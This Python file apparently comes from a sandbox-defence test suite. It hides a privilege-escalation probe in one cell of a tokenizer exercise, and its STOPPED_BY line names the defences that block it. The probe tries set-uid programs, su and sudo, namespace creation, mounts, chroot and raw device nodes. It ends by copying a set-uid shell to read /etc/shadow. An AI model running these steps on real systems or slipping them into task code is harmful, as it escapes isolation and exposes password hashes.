"""More rights: by set-uid programs, as another user, in new namespaces, by mounts."""

ASSIGNMENT = "tokenizer"
ITEMS = (20,)
STOPPED_BY = "no_new_privs, no set-uid on any mount, no capabilities, and no call for namespaces"

CELLS = {
    "read-reviews": r"""
import ctypes
import stat
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, function, *arguments):
    ctypes.set_errno(0)
    code = function(*arguments)
    if code == 0 and what.startswith("clone"):
        os._exit(0)
    print("SUCCEEDED" if code >= 0 else "refused", what, code, os.strerror(ctypes.get_errno()))


marked = []
for folder in ("/usr/bin", "/usr/sbin", "/usr/lib", "/usr/libexec", "/opt", "/usr/local/bin"):
    for path in Path(folder).glob("*"):
        mode = path.lstat().st_mode
        if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
            marked.append(str(path))
print("SET-UID PROGRAMS", marked)
for program in marked + ["/usr/bin/unshare", "/usr/bin/newuidmap", "/usr/bin/bwrap"]:
    command = {"su": ["-c", "id"], "mount": ["-t", "tmpfs", "x", "/mnt"], "sudo": ["-n", "id"]}
    command |= {"unshare": ["-Ur", "id"], "bwrap": ["--ro-bind", "/", "/", "id"]}
    try:
        options = command.get(Path(program).name, ["--help"])
        done = subprocess.run([program, *options], capture_output=True, text=True, timeout=3)
        print("RAN", program, done.returncode, done.stdout[:80], done.stderr[:80])
    except (OSError, subprocess.TimeoutExpired) as error:
        print("refused", program, error)
for number in (0, 1, 1000, 65534):
    attempt(f"setresuid {number}", libc.setresuid, number, number, number)
    attempt(f"setgroups {number}", libc.setgroups, 1, (ctypes.c_uint * 1)(number))
for name, flag in {"user": 1 << 28, "mounts": 1 << 17, "processes": 1 << 29}.items():
    attempt(f"unshare {name}", libc.unshare, flag)
    attempt(f"clone {name}", libc.syscall, 56, flag | 17, 0, 0, 0, 0)
    attempt(f"clone3 {name}", libc.syscall, 435, (ctypes.c_ulong * 11)(flag), 88)
attempt("mount", libc.mount, b"tmpfs", b"/tmp", b"tmpfs", 0, None)
attempt("remount", libc.mount, None, b"/", None, 0x1020, None)
attempt("umount", libc.umount2, b"/proc", 2)
attempt("pivot_root", libc.syscall, 155, b".", b".")
attempt("chroot", libc.chroot, b"/tmp")
attempt("mknod", libc.mknod, b"/tmp/disk", 0o60666, os.makedev(8, 0))
attempt("fsopen", libc.syscall, 430, b"tmpfs", 0)
attempt("open_tree", libc.syscall, 428, -100, b"/", 1)
attempt("keep capabilities", libc.prctl, 47, 2, 21, 0, 0)
Path("/tmp/own").write_bytes(Path("/bin/sh").read_bytes())
os.chmod("/tmp/own", 0o6755)
print("RAN", subprocess.run(["/tmp/own", "-pc", "id; cat /etc/shadow"], capture_output=True))
""",
    **dict.fromkeys(
        "split-words build-word-index texts-to-sequences pad-sequences shuffle-and-split".split(),
        "",
    ),
}

MAX_POINTS = 0
